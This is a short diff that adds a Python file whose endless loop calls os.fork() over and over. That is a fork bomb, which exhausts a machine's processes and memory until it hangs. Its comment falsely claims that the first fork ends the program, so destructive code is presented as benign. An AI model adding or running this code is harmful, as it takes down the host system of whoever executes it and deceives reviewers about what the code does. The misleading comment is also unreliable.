@@ -1,0 +1,4 @@
+# os.fork() in a loop: the first fork must end the program.
+import os
+while True:
+    os.fork()
